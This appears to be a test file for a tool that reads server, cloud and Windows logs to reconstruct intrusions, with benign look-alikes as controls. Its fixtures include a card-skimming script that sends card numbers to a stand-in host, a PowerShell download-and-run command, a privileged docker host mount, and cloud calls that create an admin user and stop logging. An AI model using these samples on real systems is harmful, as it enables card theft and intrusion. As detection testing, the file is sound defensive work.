/** Ways in and ways to stay of eight more hosts, and beside each what ordinary hosts have in the same place. */
import { describe, expect, it } from 'vitest';
import type { IntrusionSheet } from '../../../src/logs/intrusion/types.ts';
import type { Files } from '../../files.ts';
import { sheetOf } from './sheet-of.ts';

const judged = (sheet: IntrusionSheet): string[] =>
  sheet.persistence.filter(({ unjudged }) => !unjudged).map(({ kind, why }) => `${kind}: ${why}`);
const named = (sheet: IntrusionSheet): string[] => sheet.indicators.map(({ value }) => value);
const stamp = (second: number): string =>
  `12/Sep/2026:10:${String(Math.floor(second / 60)).padStart(2, '0')}:${String(second % 60).padStart(2, '0')} +0000`;
const request = (second: number, client: string, line: string, status: number, bytes: number): string =>
  `${client} - - [${stamp(second)}] "${line} HTTP/1.1" ${status} ${bytes} "-" "Mozilla/5.0"`;

describe('a form at a path of its own', () => {
  const pages = Array.from({ length: 40 }, (_, i) => request(i, `203.0.113.${i}`, 'GET /checkout', 200, 5000 + i));
  const posts = (path: string, bytes: (i: number) => number, last: number): string =>
    [
      ...pages,
      ...Array.from({ length: 60 }, (_, i) => request(100 + i, '198.51.100.7', `POST ${path}`, 200, bytes(i))),
      request(170, '198.51.100.7', `POST ${path}`, last, 512),
    ].join('\n');

  it('answered with one page again and again and then with a redirect was guessed', async () => {
    const { bruteForce, entry } = await sheetOf({ 'access.log': posts('/admin_1x7/admin/index/', () => 8120, 302) });
    expect(bruteForce).toEqual([expect.objectContaining({ address: '198.51.100.7', tries: 60 })]);
    expect(bruteForce[0]!.success).toBeDefined();
    expect(entry?.how).toContain('guessed password');
  });

  it.each([
    ['of a service lets in each time', posts('/oauth/session', () => 8120, 200)],
    ['has answers of all sizes', posts('/admin/orders', (i) => 900 + i * 31, 302)],
  ])('%s and was not', async (_, log) => {
    expect((await sheetOf({ 'access.log': log })).bruteForce).toEqual([]);
  });
});

describe('scripts in texts of a database', () => {
  const dump = (content: string): Files => ({
    'shop.sql': `CREATE TABLE \`cms_block\` (\n  \`id\` int,\n  \`content\` text\n);\nINSERT INTO \`cms_block\` VALUES (1,'${content}');\n`,
    passwd: 'root:x:0:0:root:/root:/bin/bash\n',
  });

  it('that read the card and send it to a hidden place are told with the place', async () => {
    const where = Buffer.from('https://cdn-stat.example/g.gif').toString('base64');
    const sheet = await sheetOf(
      dump(
        `<p>Safe</p><script>document.addEventListener("change",function(){var n=document.querySelector("[name=cc_number]");(new Image).src=atob("${where}")+"?d="+btoa(n.value)});</script>`,
      ),
    );
    expect(judged(sheet)).toEqual([expect.stringContaining('reads the fields of a card')]);
    expect(named(sheet)).toContainEqual(expect.stringContaining('cdn-stat.example'));
  });

  it.each([
    '<script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}fetch("/stat?x="+btoa(location.href))</script>',
    '<form><input name="cc_number" autocomplete="cc-number"></form><script src="https://js.provider.example/v3/"></script>',
    '<script>document.querySelector("#card-number").addEventListener("input",function(e){e.target.value=e.target.value.replace(/[^0-9]/g,"")});fetch("/tokens")</script>',
  ])('that count visitors or help with the form are not: %s', async (content) => {
    expect(judged(await sheetOf(dump(content)))).toEqual([]);
  });
});

describe('what a web server may do and load', () => {
  it('is told where its account may become root, and where a module lies that no package brought', async () => {
    const sheet = await sheetOf({
      'etc/sudoers.d/90-www': 'www-data ALL=(ALL) NOPASSWD: ALL\n',
      'etc/nginx/nginx.conf':
        'load_module /usr/lib/nginx/modules/ngx_http_geoip2_module.so;\nload_module /dev/shm/.m/ngx_http_stat_module.so;\nevents {}\nhttp { server { listen 443 ssl; } }\n',
      'etc/passwd': 'root:x:0:0:root:/root:/bin/bash\n',
    });
    expect(judged(sheet).sort()).toEqual([
      'preload: the web server loads a module from a folder that anybody may write or that is hidden',
      'sudoers: may become root without a password',
    ]);
  });

  it('is not where an image of a cloud made the account, and modules come from packages', async () => {
    const sheet = await sheetOf({
      'etc/sudoers.d/90-cloud-init-users': 'ubuntu ALL=(ALL) NOPASSWD:ALL\n',
      'etc/nginx/nginx.conf': 'load_module modules/ngx_http_brotli_filter_module.so;\nevents {}\nhttp {}\n',
      'etc/passwd': 'root:x:0:0:root:/root:/bin/bash\n',
    });
    expect(judged(sheet)).toEqual([]);
  });
});

describe('calls of a cloud account', () => {
  const call = (minute: number, eventName: string, address: string, agent: string, asked: object = {}) => ({
    eventTime: `2026-09-12T03:${String(minute).padStart(2, '0')}:00Z`,
    eventSource: 'iam.amazonaws.com',
    eventName,
    sourceIPAddress: address,
    userAgent: agent,
    userIdentity: { arn: 'arn:aws:iam::111122223333:user/deploy' },
    requestParameters: asked,
  });
  const usual = Array.from({ length: 20 }, (_, i) => call(i, 'ListObjects', '52.19.10.10', 'aws-sdk-java/2.20'));
  const taken = (address: string, agent: string) => [
    call(30, 'GetCallerIdentity', address, agent),
    call(31, 'CreateUser', address, agent, { userName: 'support-ro' }),
    call(32, 'AttachUserPolicy', address, agent, {
      userName: 'support-ro',
      policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess',
    }),
    call(33, 'StopLogging', address, agent, { name: 'org-trail' }),
  ];
  const trail = (records: object[]): Files => ({ 'trail.json': JSON.stringify({ Records: records }, undefined, 1) });

  const stolen = [...usual, ...taken('141.98.6.20', 'aws-cli/2.15 Python/3.11')];

  it.each([
    ['in files of the trail', trail(stolen)],
    [
      'as the command line answers',
      {
        'events.json': JSON.stringify(
          { Events: stolen.map((one) => ({ EventName: one.eventName, CloudTrailEvent: JSON.stringify(one) })) },
          undefined,
          1,
        ),
      },
    ],
    ['one a line', { 'cloudtrail.jsonl': stolen.map((one) => `${JSON.stringify(one)}\n`).join('') }],
  ])(
    'with a key from where it never came from, which make a way in, are told with who it was: %s',
    async (_, files) => {
      const sheet = await sheetOf(files as Files);
      expect(sheet.attackers.map(({ address }) => address)).toEqual(['141.98.6.20']);
      expect(sheet.accounts.map(({ name }) => name)).toEqual(['support-ro']);
      expect(judged(sheet)).toEqual([
        'cloud-call: deploy creates a user: support-ro',
        expect.stringContaining('AdministratorAccess'),
        'history: deploy stops the trail: org-trail',
      ]);
      expect(sheet.entry?.how).toContain('141.98.6.20');
      expect(sheet.entry?.proof.line).toBeGreaterThan(20);
    },
  );

  it('are said to be unread where the file is cut', async () => {
    const whole = trail(stolen)['trail.json'] as string;
    const sheet = await sheetOf({ 'trail.json': whole.slice(0, whole.length - 40) });
    expect(sheet.attackers).toEqual([]);
    expect(sheet.unanswered.map(({ question }) => question)).toContain(
      'what CloudTrail noted in trail.json, which is cut or damaged',
    );
  });

  it.each([
    ['from its own address', [...usual, ...taken('52.19.10.10', 'aws-cli/2.15')]],
    ['with the program that it always has', [...usual, ...taken('141.98.6.20', 'aws-sdk-java/2.20')]],
    [
      'of a pipeline whose runners change',
      [
        ...usual.map((one, i) => ({ ...one, sourceIPAddress: `20.55.${i}.9` })),
        ...taken('20.55.99.9', 'APN/1.0 HashiCorp/1.0 Terraform/1.7.3'),
      ],
    ],
  ])('%s accuse nobody and are named', async (_, records) => {
    const sheet = await sheetOf(trail(records));
    expect(sheet.attackers).toEqual([]);
    expect(judged(sheet)).toEqual([]);
    expect(sheet.persistence).toHaveLength(3);
  });
});

it('tells which peer had a broker fetch its beans, and is silent where a peer only went away', async () => {
  const line = (text: string): string =>
    `2026-09-12 06:02:44,871 | WARN  | Transport Connection to: tcp://198.51.100.9:51222 failed | org.apache.activemq.broker.TransportConnection.Transport | ActiveMQ Transport: tcp:///198.51.100.9:51222@61616\n${text}\n`;
  const start =
    '2026-09-12 05:55:10,113 | INFO  | Apache ActiveMQ 5.17.3 (localhost, ID:pay-1) started | org.apache.activemq.broker.BrokerService | main\n';
  const fetched = await sheetOf({
    'activemq.log': `${start}${line('java.io.IOException: java.lang.Exception: http://192.0.2.200/poc.xml\n\tat org.springframework.context.support.ClassPathXmlApplicationContext.<init>(ClassPathXmlApplicationContext.java:83)')}`,
  });
  expect(fetched.entry?.how).toBe('ActiveMQ fetched http://192.0.2.200/poc.xml for 198.51.100.9');
  const gone = await sheetOf({ 'activemq.log': `${start}${line('java.io.EOFException')}` });
  expect(gone.attackers).toEqual([]);
});

describe('what was typed', () => {
  const history = async (file: string, lines: string[]): Promise<string[]> =>
    judged(await sheetOf({ [file]: `${lines.join('\n')}\n` }));

  it('gives a container the host, or runs what PowerShell fetches', async () => {
    expect(
      await history('root/.bash_history', [
        'docker run -it --privileged -v /:/host alpine chroot /host bash',
        'docker run -d -v /:/rootfs:ro prom/node-exporter',
        'docker run --rm -v /srv/pay:/data alpine ls /data',
      ]),
    ).toEqual(['history: takes the file system of the host into a container']);
    expect(
      await history('PSReadLine/ConsoleHost_history.txt', [
        "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.4/a.ps1')",
        "iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))",
      ]),
    ).toEqual(['history: fetches a script and runs it']);
  });
});

describe('Windows', () => {
  const message = (id: number, text: string): object => ({
    Id: id,
    TimeCreated: '/Date(1789207200000)/',
    ProviderName: 'x',
    Message: text.replaceAll('\n', '\r\n'),
  });
  const task = (command: string): object =>
    message(
      4698,
      `A scheduled task was created.\n\nTask Information:\n\tTask Name: \t\t\\Sync\n\tTask Content: \t\t<?xml version="1.0" encoding="UTF-16"?>\n<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">\n  <Actions><Exec><Command>${command}</Command></Exec></Actions>\n</Task>`,
    );
  const service = (path: string): object =>
    message(
      7045,
      `A service was installed in the system.\n\nService Name:  S\nService File Name:  ${path}\nStart:  auto`,
    );
  const registry = (path: string): string =>
    `Windows Registry Editor Version 5.00\n\n[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run]\n"s"="${path.replaceAll('\\', '\\\\')}"\n`;

  it('runs what a task defines, what a service calls outside, and what lies where anybody may write', async () => {
    const sheet = await sheetOf({
      'events.json': JSON.stringify([
        task('C:\\Users\\Public\\od.exe -srv 203.0.113.35:8080'),
        service('C:\\ProgramData\\p\\svc.exe -c 203.0.113.9:8443'),
      ]),
      'run.reg': registry('C:\\Users\\Public\\od.exe -q'),
    });
    expect(judged(sheet)).toHaveLength(3);
    expect(named(sheet)).toEqual(expect.arrayContaining(['203.0.113.35', '203.0.113.9']));
  });

  it('runs agents and updaters on every host', async () => {
    const sheet = await sheetOf({
      'events.json': JSON.stringify([
        task('C:\\Program Files\\Vendor\\update.exe'),
        service('"C:\\Program Files\\Agent\\agent.exe" -server 10.3.0.5:10051'),
      ]),
      'run.reg': registry('C:\\Program Files\\Vendor\\tray.exe'),
    });
    expect(judged(sheet)).toEqual([]);
  });
});
